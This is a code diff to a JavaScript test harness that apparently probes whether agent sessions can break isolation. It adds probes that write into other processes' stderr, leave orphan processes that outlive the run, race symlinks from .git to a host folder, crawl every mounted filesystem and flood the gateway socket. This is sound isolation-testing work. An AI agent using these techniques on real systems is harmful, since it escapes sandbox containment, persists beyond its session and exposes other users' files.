@@ -115,6 +115,76 @@ async function startBait() {
 }
 const BAIT = () => Buffer.from(turned(BAIT_BACKWARDS))
 
+// ---- what an error quotes ----
+
+async function stderr() {
+  await attempt('J9', async ({ tried }) => {
+    for (const pid of [...agents(), ...workers()]) tried('stderr of ' + pid)
+    for (const file of [...[...agents(), ...workers()].map((pid) => '/proc/' + pid + '/fd/2'), '/dev/stderr', '/dev/console'])
+      try { fs.writeFileSync(file, plan.word + '\n', { flag: 'a' }) } catch {}
+  })
+}
+
+// ---- what is left of a run ----
+
+const LEFT = ['987651', '987652', '987653']
+const leftovers = () => pids().filter((pid) => LEFT.some((number) => cmdline(pid).includes('sleep ' + number)))
+
+/** In the last moments of a run: processes that no shell waits for. */
+function leaveProcesses() {
+  spawnSync('bash', ['-c', 'setsid sleep 987651 & (setsid bash -c "sleep 987652 & disown" &); nohup sleep 987653 & disown; sleep 0.3'], { stdio: 'ignore' })
+  fs.writeFileSync(path.join(here, 'left'), String(leftovers().length))
+}
+
+async function afterwards() {
+  await attempt('J8', async ({ tried, had, works }) => {
+    works('leaving a process', Number(read(path.join(here, 'left'))) > 0)
+    tried()
+    for (const pid of leftovers()) had('a process of the run before: ' + cmdline(pid))
+  })
+}
+
+// ---- a second conversation ----
+
+/** Tools of the first: put links to a folder of the host in the place of what a start of the second looks at. */
+function swap() {
+  const git = path.join(here, '.git')
+  for (const until = Date.now() + 60000; Date.now() < until;) {
+    for (const name of ['modules', 'worktrees', 'hooks', 'config', '']) {
+      const at = path.join(git, name)
+      const away = path.join(here, 'away')
+      try {
+        fs.renameSync(at, away)
+        fs.symlinkSync(plan.hostFolder, at)
+        for (const still = Date.now() + 150; Date.now() < still;);
+        fs.unlinkSync(at)
+        fs.renameSync(away, at)
+      } catch {}
+    }
+  }
+}
+
+/** A tool of the second: looks for what is not of the workspace wherever something is mounted. */
+async function neighbour() {
+  await attempt('X9', async ({ mustFail, search, works }) => {
+    const points = String(read('/proc/self/mountinfo')).split('\n').map((line) => line.split(' ')[4] || '/proc')
+    let files = 0
+    const visit = (folder, depth) => {
+      let entries = []
+      try { entries = fs.readdirSync(folder, { withFileTypes: true }) } catch { return }
+      for (const entry of entries) {
+        const file = path.join(folder, entry.name)
+        if (entry.isDirectory() && depth < 3) visit(file, depth + 1)
+        // The plans of an attack name what it looks for.
+        else if (entry.isFile() && !/^(plan-|loot)/.test(entry.name)) { files++; search(file, read(file) || '') }
+      }
+    }
+    for (const point of points) if (!/^\/(proc|sys|dev)(\/|$)|^\/$/.test(point)) visit(point, 0)
+    for (const name of ['hooks/post-checkout', 'config']) mustFail('writing .git/' + name, () => { fs.writeFileSync(path.join(here, '.git', name), '', { flag: 'a' }) })
+    works('finding files', files > 0)
+  })
+}
+
 // ---- the host's sockets ----
 
 const connects = (options) => new Promise((resolve) => {
@@ -465,6 +535,20 @@ async function gateway() {
     await refuses(tell, 'the one of the run before', { capability: turned(plan.revokedBackwards) })
     tell.works('a request as it should be', isGood)
   })
+  await attempt('F13e', async ({ tried, had, works }) => {
+    const silent = []
+    for (let count = 0; count < 200; count++) {
+      const socket = net.connect(SOCKET).on('error', () => {})
+      silent.push(socket)
+      if (count % 20 === 19) await new Promise((resolve) => setTimeout(resolve, 10))
+    }
+    tried(silent.length + ' connections')
+    const answers = []
+    for (let count = 0; count < 3; count++) answers.push(await ask({ capability, body: good }))
+    for (const socket of silent) socket.destroy()
+    if (!answers.every((answer) => answer === 200)) had('the place of the agent: ' + answers)
+    works('a request as it should be', isGood)
+  })
 }
 
 // ---- forgery ----
@@ -559,19 +643,25 @@ const NOTIFY = [
 ].join('\n')
 
 async function main() {
+  if (part === 'swap') return swap()
   if (part === '1') {
     await theft()
     await escape()
     if (plan.tryNetwork) await network()
     await vsock()
-  } else {
+    await stderr()
+  } else if (part === '2') {
+    await afterwards()
     if (plan.stolenBackwards) await gateway()
     await forgery()
+  } else {
+    await neighbour()
   }
   const left = path.join(here, 'report-' + part + '.json')
   fs.writeFileSync(left + '.new', JSON.stringify(results))
   fs.renameSync(left + '.new', left)
   console.log(results.map(({ id, got }) => id + ' ' + (got.length ? 'GOT ' + got.join(', ') : 'nothing')).join('\n'))
+  if (part === '1') leaveProcesses()
   if (part === '2') forgeByPipes()
   process.exit(0)
 }
